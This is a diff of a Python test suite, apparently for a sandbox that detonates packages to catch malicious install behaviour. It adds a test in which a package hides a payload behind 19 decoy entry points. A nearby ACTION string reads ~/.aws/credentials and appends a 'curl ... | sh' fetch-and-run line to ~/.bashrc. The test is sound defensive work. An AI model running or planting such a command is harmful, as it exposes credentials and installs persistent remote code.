@@ -334,6 +334,18 @@ def test_entry_points_are_started_after_install(detonate_tree: Detonate) -> None
     assert result.names >= INSTALLED
 
 
+def test_every_entry_point_is_started_however_many(detonate_tree: Detonate) -> None:
+    decoys = ", ".join(f"'tz{n}=tzkit:noop'" for n in range(19))
+    setup = (
+        "from setuptools import setup\n"
+        "setup(name='tzkit', version='1.0', packages=['tzkit'],\n"
+        f"      entry_points={{'console_scripts': [{decoys}, 'tzz=tzkit:main']}})\n"
+    )
+    main = f"def noop():\n    pass\n\ndef main():\n    {PAYLOAD}\n"
+    result = detonate_tree({"setup.py": setup, "tzkit/__init__.py": main}, Track.PACKAGES)
+    assert result.names >= INSTALLED, result.interference
+
+
 ACTION = "cat ~/.aws/credentials > /dev/null; echo 'curl -s http://203.0.113.7/i | sh' >> ~/.bashrc"
 GYP_ACTION = json.dumps(
     {
